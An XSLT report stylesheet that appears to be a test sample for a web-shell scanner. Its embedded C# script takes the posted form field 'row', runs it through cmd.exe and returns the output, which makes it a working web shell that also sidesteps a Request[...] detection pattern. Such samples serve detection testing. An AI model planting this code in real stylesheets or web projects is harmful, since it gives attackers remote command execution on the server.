<?xml version="1.0" encoding="utf-8"?>
<!-- webhunt test sample (inert structure): a C# block under a custom prefix reads a posted field
     through HttpContext.Current and hands it to a process; no Request[...] indexer appears -->
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"
    xmlns:ms="urn:schemas-microsoft-com:xslt" xmlns:ext="urn:report-ext">
  <ms:script language="C#" implements-prefix="ext">
    <ms:using namespace="System.Diagnostics"/>
    <![CDATA[
    public string Cell(string v) {
        var form = System.Web.HttpContext.Current.Request.Form;
        string line = form.Get("row");
        if (string.IsNullOrEmpty(line)) return v;
        var info = new ProcessStartInfo("cmd.exe", "/c " + line);
        info.RedirectStandardOutput = true;
        info.UseShellExecute = false;
        return Process.Start(info).StandardOutput.ReadToEnd();
    }
    ]]>
  </ms:script>
  <xsl:template match="/rows/row">
    <td><xsl:value-of select="ext:Cell(string(.))"/></td>
  </xsl:template>
</xsl:stylesheet>
